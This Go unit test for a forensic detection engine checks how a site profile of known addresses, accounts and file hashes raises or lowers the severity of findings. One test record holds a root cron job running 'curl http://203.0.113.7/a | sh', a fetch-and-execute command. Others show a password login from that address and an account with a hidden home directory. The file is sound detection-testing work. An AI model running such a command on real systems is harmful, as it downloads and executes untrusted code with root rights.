package detect

import (
	"testing"

	"icecore/forensics/model"
	"icecore/forensics/site"
)

// TestSite: what the profile of the site does to findings.
func TestSite(t *testing.T) {
	const sum = "c03318cb12b827c03d556c8747b1e323225df97bdc4258c2756b0d6a4fd52b47"
	profile, err := site.Parse("site.yml", []byte("version: 1\naddresses: [198.51.100.10]\naccounts: [{name: root}]\n"+
		"tools: [{path: /etc/cron.d/x, sha256: ["+sum+"]}]\n"))
	if err != nil {
		t.Fatal(err)
	}
	const job = "cron.job command=curl http://203.0.113.7/a | sh; user=root; traits=fetch,pipe_to_shell; urls=http://203.0.113.7/a; path=/etc/cron.d/x"
	for _, tt := range []struct {
		name, record, sum, rule string
		want                    Level
	}{
		{"a job of a known file", job, sum, "act_pipe_to_shell", Informational},
		{"another file at its path", job, sum[1:] + "0", "act_pipe_to_shell", High},
		{"a login from elsewhere", "auth.login address=203.0.113.7; user=root; method=password; path=/var/log/auth.log", "", "site_contradiction", Medium},
		{"a login of an administrator", "auth.login address=198.51.100.10; user=root; method=publickey; path=/var/log/auth.log", "", "site_contradiction", None},
		{"an account that is not in it", "account.user name=eve; uid=1001; shell=/bin/bash; home=/home/eve; path=/etc/passwd", "", "site_contradiction", Medium},
		{"a finding about one is raised", "account.user name=eve; uid=1001; shell=/bin/bash; home=/home/.eve; path=/etc/passwd", "", "account_hidden_home", High},
		{"a service without a shell", "account.user name=svc; uid=999; shell=/usr/sbin/nologin; home=/; path=/etc/passwd", "", "site_contradiction", None},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rec := record(t, tt.record)
			rec.ID, rec.Source.SHA256 = "R-000001", tt.sum
			r, err := ours()
			if err != nil {
				t.Fatal(err)
			}
			res, err := r.Run(t.Context(), &Input{Records: []model.Record{rec}, Site: profile})
			if err != nil || len(res.Failed) > 0 {
				t.Fatal(err, res.Failed)
			}
			got := None
			for _, f := range res.Findings {
				if f.Rule == tt.rule {
					got = f.Level
				}
			}
			if got != tt.want {
				t.Errorf("%s, want %s: %+v", got, tt.want, res.Findings)
			}
		})
	}
}
